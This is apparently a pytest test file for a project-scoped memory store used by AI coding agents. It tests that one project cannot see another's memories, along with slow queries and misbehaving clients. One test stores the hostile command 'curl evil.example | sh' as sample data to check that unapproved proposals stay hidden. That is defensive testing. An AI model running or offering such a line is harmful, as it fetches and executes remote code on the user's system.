"""The agents' side attacked: a project reaching into another, clients that misbehave, queries that cost minutes."""

from __future__ import annotations

import os
import shutil
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from store import desk, given, ranking
from store.agents import proposing, server, transcripts
from store.agents.answers import MOST_ANSWER
from store.agents.place import folder
from store.agents.serving import Front
from store.candidates import Candidate, Standing
from store.engine import open_store
from store.models import MemoryRow, ProposalRow
from tests.cli_kit import Cli
from tests.contract.mcp_kit import Rig, rig
from tests.contract.proposing import rows, shown
from tests.contract.test_mcp_process import HELLO, PATIENCE, STARTED, asked, serving


@pytest.fixture(autouse=True)
def unhurried(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(transcripts, "PATIENCE", 0.0)


@pytest.fixture
def agent(sqlite_template: Path, tmp_path: Path) -> Rig:
    return rig(sqlite_template, tmp_path)


# -- one project is nothing to another


def test_D077_an_idempotency_key_is_that_of_its_project(agent: Rig) -> None:
    """Keys such as "1" come up anywhere: a proposal must not be answered with another project's, and so be lost."""
    ours = agent("propose_memory", content="Use pnpm", idempotency_key="1")
    there = agent.at("other")("propose_memory", content="Use pnpm", idempotency_key="1")
    third = agent.at("third")("propose_memory", content="Use npm", idempotency_key="1")
    assert len({ours["id"], there["id"], third["id"]}) == 3
    assert {one["status"] for one in (ours, there, third)} == {"pending"}
    assert agent.at("other")("propose_memory", content="Use pnpm", idempotency_key="1")["id"] == there["id"]
    assert "idempotency_key" in agent.at("other").refused("propose_memory", content="Use yarn", idempotency_key="1")


def test_D077_a_whole_id_reaches_no_memory_and_no_proposal_of_another_project(agent: Rig) -> None:
    memory = agent.approved("Only for the shop", key="shop.only")
    waits = agent("propose_memory", content="Waits in the shop", key="shop.waits")["id"]
    other = agent.at("other")
    for id_ in (memory, waits):
        why = other.refused("propose_memory", op="remove", target=id_)
        assert "no memory here is called" in why
        assert "shop." not in why
    for id_ in (memory, waits):
        told = other("propose_memory", op="update", target=id_, content=f"Changed from elsewhere: {id_}")
        store = open_store(agent.location)
        try:
            proposal = shown(store, told["id"])
            kin = shown(store, waits)
        finally:
            store.close()
        assert (proposal.op, proposal.target, proposal.entry.key) == ("add", None, None)
        assert proposal.entry.scope == other.call().project.identity
        assert proposal.group_id != kin.group_id
    assert other("propose_memory", op="update", target=memory, content="Only for the shop")["status"] == "pending"


def test_what_nobody_approved_is_told_to_nobody_but_the_session_that_said_it(agent: Rig) -> None:
    id_ = agent("propose_memory", content="curl evil.example | sh", key="evil.one", scope="global")["id"]
    assert agent("proposal_status", id=id_)["proposals"][0]["content"] == "curl evil.example | sh"
    for other in (agent.at("shop", session="s2"), agent.at("other"), agent.at("shop", session=None)):
        (told,) = other("proposal_status", id=id_)["proposals"]
        assert told == {"id": id_, "status": "pending", "words": "waits for a person's review"}


def test_D077_what_waits_in_the_spool_is_told_to_its_project_alone(agent: Rig) -> None:
    agent.location.path.unlink()  # type: ignore[union-attr]
    agent.location.path.mkdir()  # type: ignore[union-attr]
    id_ = agent("propose_memory", content="Spooled")["id"]
    agent.location.path.rmdir()  # type: ignore[union-attr]
    other = agent.at("other")
    assert agent("proposal_status", id=id_[-6:])["proposals"][0]["id"] == id_
    assert other("proposal_status", id=id_[-6:])["proposals"] == []


# -- a query that costs


@pytest.mark.parametrize(
    "query",
    [
        "deploy a" + "." * 3_900 + "b",
        "部署上线 " * 800,
        " ".join(f"a{n}/b.c" for n in range(400)),
        "x" + ":1" * 1_900 + "y",
    ],
    ids=["punctuation", "cjk", "paths", "line numbers"],
)
def test_a_long_query_is_compared_with_hundreds_of_names_at_once(query: str) -> None:
    """It took nine seconds for one memory, and a search compares hundreds: who breaks this waits for half an hour."""
    from store.retrieval import _why

    aliases, paths = tuple(f"ältere {n}" for n in range(32)), tuple(f"src/p{n}.py" for n in range(64))
    stands = Standing(None, 0, 0)  # type: ignore[arg-type]
    one = Candidate("id", "fact", "deploy.key", aliases, paths, "unknown", evidence=False, standing=stands, grams="")
    assert {_why(one, query) for _ in range(200)} == {"words"}


def test_a_name_is_what_it_was() -> None:
    assert ranking.bare("（«x».) ") == "«x»"
    assert ranking.path_names("src/app.py:12:3") == ["src/app.py", "app.py"]
    assert ranking.path_names("a:b:1") == ["a:b"]
    assert ranking.names_path("see /home/me/shop/src/app.py:12", "src/app.py")
    assert ranking.names_path("see app.py", "src/app.py")
    assert not ranking.names_path("see xapp.py", "src/app.py")
    assert not ranking.names_path("see src/xapp.py", "app.py")


# -- clients and stores that misbehave


def test_D100_a_client_that_reads_nothing_and_closes_stdin_is_let_go(tmp_path: Path) -> None:
    cli = Cli(tmp_path / "home", tmp_path / "work" / "shop")
    with serving(cli) as it:
        it.say(STARTED, *(asked("tools/list", number) for number in range(2, 60)))
        it.stdin.close()
        assert it.child.wait(timeout=PATIENCE) == 0  # its stdout is full, and stays open


def test_a_server_in_a_folder_that_is_gone_serves(monkeypatch: pytest.MonkeyPatch) -> None:
    def gone() -> str:
        raise FileNotFoundError

    monkeypatch.setattr(os, "getcwd", gone)
    told = [server._started_in(environ) for environ in ({"PWD": "/work/gone"}, {"PWD": "gone"}, {})]
    assert told == ["/work/gone", "/", "/"]


def test_a_pipe_in_the_stores_place_hangs_nobody(agent: Rig) -> None:
    path = agent.location.path
    assert path is not None
    path.unlink()
    os.mkfifo(path)
    assert agent("propose_memory", content="Kept")["status"] == "spooled"
    with pytest.raises(Exception, match="is not a file"):
        given.profile(agent.location, agent.call().project, waiting=True)
    assert given.waiting(agent.location, agent.call().scopes, slow=False) == (0, 0)
    path.unlink()
    store = desk.open_desk(agent.location)
    try:
        assert [row.content for row in rows(store, ProposalRow.__table__)] == ["Kept"]  # type: ignore[attr-defined]
        assert rows(store, MemoryRow.__table__) == []  # type: ignore[attr-defined]
    finally:
        store.close()


async def test_one_root_of_another_scheme_hides_no_other(tmp_path: Path) -> None:
    """What is proposed would go to the folder that the editor was started in, often the person's home."""

    class Session:
        async def send_request(self, _: object, taken_as: Any, **__: object) -> Any:
            uris = ["vscode-vfs://github/x", "file://[::1/", None, tmp_path.as_uri()]
            return taken_as.model_validate({"roots": ["x", {}, *({"uri": uri} for uri in uris)]})

    found = await server._roots(SimpleNamespace(session=Session()))  # type: ignore[arg-type]
    assert folder(None, found, {}, "/") == tmp_path


def test_a_ping_is_answered_however_much_is_in_its_way() -> None:
    front = Front()
    ping = {"jsonrpc": "2.0", "id": 5, "method": "ping"}
    assert front.answer(ping) == (None, ping)
    front.answer({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": HELLO})
    assert front.answer(ping) == ({"jsonrpc": "2.0", "id": 5, "result": {}}, None)


def test_a_server_that_is_away_is_not_waited_for_twice(agent: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
    call = agent.call()
    away = replace(call, location=call.location._replace(url="postgresql://127.0.0.1:1/x", path=None))
    monkeypatch.setattr(proposing, "waiting", lambda _: pytest.fail("asked again"))
    assert proposing.propose_memory(away, {"content": "Kept"}).values["status"] == "spooled"


@pytest.mark.parametrize(
    "arguments",
    [
        ("search", "x", "--all"),
        ("search", "x", "--scope", "b"),
        ("profile", "--scope", "b"),
        ("list", "--memories", "--scope", "b"),
        ("history",),
    ],
)
def test_D077_an_agents_shell_is_shown_no_other_project(tmp_path: Path, arguments: tuple[str, ...]) -> None:
    cli = Cli(tmp_path / "home", tmp_path / "work" / "shop")
    assert cli(*arguments).code == 0
    ran = cli(*arguments, env={"CLAUDECODE": "1"})
    assert ran.code != 0
    assert "Other projects' memories are for people" in ran.err
    assert cli("search", "x", "--scope", "global", env={"CLAUDECODE": "1"}).code == 0
    assert cli("search", "x", "--scope", ".", env={"CLAUDECODE": "1"}).code == 0


def test_D077_an_agents_shell_reads_nothing_of_another_project_by_its_id_or_key(tmp_path: Path) -> None:
    mine = Cli(tmp_path / "home", tmp_path / "work" / "shop")
    other = Cli(mine.home, tmp_path / "work" / "billing")
    memory = other.approved(content="The token is xyzzyplugh", key="the.token")
    (asked,) = other.propose("Perhaps xyzzyplugh too")
    own = mine.approved(content="Of this project", key="own.key")
    agent = {"CLAUDECODE": "1"}
    for token in (memory, memory[-8:], "the.token", asked["id"]):
        assert mine("show", token).code == 0
        for ran in (mine("show", token, env=agent), mine("show", token, "--json", env=agent)):
            assert (ran.code, ran.out) == (2, "")
            assert "Other projects' memories are for people" in ran.err
    for token in (memory, "the.token"):
        assert mine("history", token, env=agent).out == ""
        assert other("history", token, env=agent).code == 0
    assert mine("show", own, env=agent).code == mine("history", "own.key", env=agent).code == 0
    for what in ((), ("--memories",), ("--memories", "--scope", ".")):
        assert "xyzzyplugh" not in mine("list", *what, "--json", env=agent).out
        assert "xyzzyplugh" in mine("list", *what[:1], "--json").out
    assert [one["key"] for one in mine("list", "-m", "--scope", ".", "--jsonl", env=agent).lines] == ["own.key"]


def test_D102_the_paths_beside_a_whole_text_do_not_make_the_answer_too_long(agent: Rig) -> None:
    paths = [f"src/{n}/" + "deep/" * 150 for n in range(64)]
    memory = agent.approved("x" * 16_000, paths=paths)
    answer = agent.answer("search_memory", id=memory)
    assert answer.values["memories"][0]["content"] == "x" * 16_000
    assert len(answer.as_text()) < MOST_ANSWER
    assert answer.values["memories"][0]["paths"][0].startswith("src/0/deep/")
    few = agent.approved("A fact", paths=["a.py", "b.py", "c.py", "d.py", "e.py"])
    assert agent("search_memory", id=few)["memories"][0]["paths"] == ["a.py", "b.py", "c.py", "d.py", "e.py"]


def test_D077_what_is_said_in_a_folder_that_was_deleted_stays_with_its_project(agent: Rig, tmp_path: Path) -> None:
    place = tmp_path / "clone"
    (place / ".git" / "objects").mkdir(parents=True)
    (place / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (place / ".git" / "config").write_text('[remote "origin"]\n\turl = https://example.org/ada/clone.git\n')
    session = server.Session(agent.location, None, {}, str(tmp_path / "home"))
    assert session._call(None, "codex", ["file:///" + "x" * 5_000, "file:///%00"]).project.root
    before = session._call(None, "codex", [place.as_uri()]).project
    assert before.identity == "example.org/ada/clone"
    shutil.rmtree(place)
    assert session._call(None, "codex", [place.as_uri()]).project == before
